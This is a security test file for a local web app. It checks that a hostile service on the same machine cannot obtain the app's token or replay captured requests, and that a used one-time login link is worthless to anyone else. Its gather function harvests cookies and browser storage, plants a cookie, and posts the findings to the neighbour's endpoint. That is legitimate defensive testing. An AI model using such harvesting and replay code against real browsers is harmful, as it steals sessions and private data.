import { expect } from 'vitest'
import { newLink } from '../../app/src/server/guard/door.js'
import { invented } from '../invented-capture.js'
import { exchange } from '../served.js'
import { test } from './neighbour-test.js'
import { owned } from './owned.js'

// Another service on 127.0.0.1, of whoever: it sees what a browser brings to its own port, and sends it on to ours.
const its = owned()

/** Runs in a page of the neighbour: all that it finds there, and every way to make the browser bring more. */
async function gather(own: string): Promise<string> {
  const found: string[] = [document.cookie, document.referrer, window.name, location.href]
  found.push(JSON.stringify({ ...localStorage, ...sessionStorage }))
  found.push(String((await indexedDB.databases()).length))
  document.cookie = 'hearsay.token=planted; path=/'
  for (const credentials of ['include', 'omit'] as const)
    await fetch('/gathered', { method: 'POST', credentials, body: found.join() })
  const form = Object.assign(document.createElement('form'), { action: '/form', method: 'post' })
  const frame = Object.assign(document.createElement('iframe'), { name: 'form', src: own })
  document.body.append(form, frame, Object.assign(new Image(), { src: '/image' }))
  form.target = 'form'
  form.submit()
  return found.join()
}

test('gets nothing of ours from the browser, and gets nowhere by sending on what it got', async ({
  open,
  neighbour,
}) => {
  const { capture, ledger } = invented()
  const { article } = await its.parts.store.save(capture, ledger)
  const { page, context } = await open()
  await its.enter(page)
  // From our page to theirs in one tab, theirs in a tab of its own, and one that opens ours.
  await page.evaluate((to) => location.assign(to), `${neighbour.address}/from-ours`)
  await page.waitForURL(/from-ours/)
  const other = await context.newPage()
  await other.goto(`${neighbour.address}/by-itself`)
  const [opened] = await Promise.all([
    context.waitForEvent('page'),
    other.evaluate((to) => void window.open(to), its.origin),
  ])
  await its.calm(opened)
  const seen = await Promise.all([page, other].map((each) => each.evaluate(gather, its.origin)))
  await its.calm(page, other)
  expect(neighbour.brought.map(({ path }) => path)).toEqual(
    expect.arrayContaining(['/from-ours', '/by-itself', '/gathered', '/form', '/image']),
  )
  // Neither the token nor anything else that opens a door.
  const all = JSON.stringify([seen, neighbour.brought])
  expect(all).not.toContain('the-token')
  expect(all).not.toContain('Bearer')
  // As it was brought, and as if it came from our page.
  const ways = its.app.routes.filter(
    ({ method, path }) => method !== 'ALL' && path.startsWith('/api'),
  )
  for (const { headers } of neighbour.brought)
    for (const { method, path } of ways) {
      const at = path.replace(/:\w+/g, article)
      const { cookie, 'user-agent': agent } = headers
      const own = {
        origin: its.origin,
        'sec-fetch-site': 'same-origin',
        cookie,
        'user-agent': agent,
      }
      const bodied = method === 'POST' || method === 'PUT'
      const type = bodied ? { 'content-type': 'application/json' } : {}
      for (const sent of [{ ...headers, 'content-length': undefined }, own]) {
        const asking = { method, path: at, headers: { ...sent, ...type, host: undefined } }
        const body = bodied ? '{"text":"Planted.","code":"x","for":"/api/status"}' : undefined
        const host = { host: new URL(its.origin).host }
        const asked = { ...asking, headers: { ...asking.headers, ...host }, body }
        const { status } = await exchange(Number(new URL(its.origin).port), asked)
        expect({ method, path, refused: status >= 400 }).toEqual({ method, path, refused: true })
      }
    }
  expect(its.work).toEqual([])
})

test('a link that was used is worth nothing to who hears of it, and a second tab is in', async ({
  open,
}) => {
  const { page, context } = await open()
  const link = newLink(its.parts.door)
  await page.goto(link)
  await page.getByRole('heading', { name: 'Who says what, on whose word?' }).waitFor()
  expect(page.url()).toBe(`${its.origin}/`)
  const second = await context.newPage()
  for (const address of [`${its.origin}/library`, link]) {
    await second.goto(address)
    await second
      .getByRole('region', { name: 'Only its owner gets in' })
      .waitFor({ state: 'hidden' })
    await its.calm(second)
    expect(await second.getByText('Only its owner gets in').count()).toBe(0)
  }
  await page.reload()
  await page.getByRole('heading', { name: 'Who says what, on whose word?' }).waitFor()
  const { page: stranger } = await open()
  its.work.length = 0
  await stranger.goto(link)
  await stranger.getByText('This link has been used').waitFor()
  await stranger.getByText('hearsay open').waitFor()
  expect(its.work).toEqual([])
})
